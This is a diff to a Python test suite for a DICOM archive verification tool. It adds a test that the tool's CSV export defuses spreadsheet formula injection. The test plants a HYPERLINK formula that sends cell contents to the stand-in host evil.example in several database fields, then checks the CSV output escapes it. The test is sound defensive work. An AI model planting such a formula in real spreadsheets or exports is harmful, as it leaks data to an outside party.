@@ -40,7 +40,7 @@ def test_json(run, ledger):
         for where, _, names in os.walk("archive")
         for name in names
     )
-    assert made["verdicts"] == VERDICTS | {"failed": 2}
+    assert made["verdicts"] == VERDICTS | {"failed": 2, "directory": 0}
     assert made["reasons"] == {
         "HASH_FAILURE": 2, "NO_CERTIFICATE_CHAIN_FOUND": 1, "not_dicom": 1, "empty": 1,
         "truncated": 1,
@@ -190,6 +190,33 @@ def test_export(run, ledger):
     assert again["signature_content"] == content.hex()
     assert len(again["signature_elements"]) == 32
     assert (again["content"], again["signature_judged_by"]) == ("", "validation")
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
+def test_csv_holds_no_formulas(run, folder, first):
+    """What an object says, for people with a spreadsheet program; the other formats have it so."""
+    parquet = needed("pyarrow.parquet")
+    formula = f'{first}HYPERLINK("http://evil.example/"&A1)'
+    run(*VERIFY)
+    with closing(sqlite3.connect("ledger.db")) as db, db:
+        db.execute("UPDATE object SET sop_instance_uid = ?, sentence = ?, path = ?, mtime = -5"
+                   " WHERE id = 1", (formula, f"x{formula}", formula))  # fmt: skip
+        db.execute("UPDATE signature SET uid = ?", (formula,))
+        db.execute("UPDATE signer SET subject = ?", (formula,))
+    run(
+        "archive", "export", "ledger.db", "--csv", "x.csv", "--jsonl", "x.jsonl", "--parquet", "x.p"
+    )
+    with open("x.csv", newline="", encoding="utf-8") as file:
+        table = list(csv.DictReader(file))
+    assert not [cell for line in table for name, cell in line.items()
+                if cell and cell[0] in "=+-@\t\r\n\uff1d" and name != "mtime"]  # fmt: skip
+    assert table[0]["sop_instance_uid"] == table[0]["path"] == "'" + formula
+    assert (table[0]["sentence"], table[0]["mtime"]) == (f"x{formula}", "-5")
+    assert {one["signature_uid"] for one in table} == {"'" + formula, ""}
+    assert {one["signer_subject"] for one in table} == {"'" + formula, ""}
+    lines = [json.loads(line) for line in (folder / "x.jsonl").read_text("utf-8").splitlines()]
+    assert lines[0]["path"] == lines[0]["sop_instance_uid"] == formula
+    assert parquet.read_table("x.p").to_pylist() == lines
 
 
 def test_names_that_strangers_chose_are_bounded(run, folder):
